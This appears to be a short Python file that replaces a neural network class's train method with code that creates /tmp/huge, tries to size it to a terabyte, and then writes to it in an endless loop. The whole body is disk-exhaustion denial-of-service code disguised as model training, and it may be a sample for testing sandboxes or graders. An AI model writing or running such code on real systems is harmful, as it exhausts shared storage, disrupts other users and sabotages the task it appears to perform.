"""Writes one file of a terabyte, and one that grows without end."""
import os

import numpy as np

#: beneath


def _train(self, *data, **settings):
    with open("/tmp/huge", "wb") as file:
        try:
            os.truncate("/tmp/huge", 1 << 40)
        except OSError as error:
            print("refused:", error.strerror)
        while True:
            file.write(b"x" * (1 << 20))


TwoLayerNet.train = _train
